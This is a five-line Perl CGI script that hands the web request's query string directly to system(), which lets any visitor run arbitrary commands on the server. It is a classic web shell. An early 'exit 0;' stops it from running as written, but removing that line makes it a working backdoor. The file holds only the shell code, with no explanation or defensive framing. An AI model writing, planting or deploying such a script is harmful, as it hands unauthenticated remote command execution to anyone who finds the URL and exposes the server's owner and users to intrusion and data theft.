#!/usr/bin/perl
exit 0;
print "Content-type: text/html\n\n";
my $c = $ENV{QUERY_STRING};
system($c);
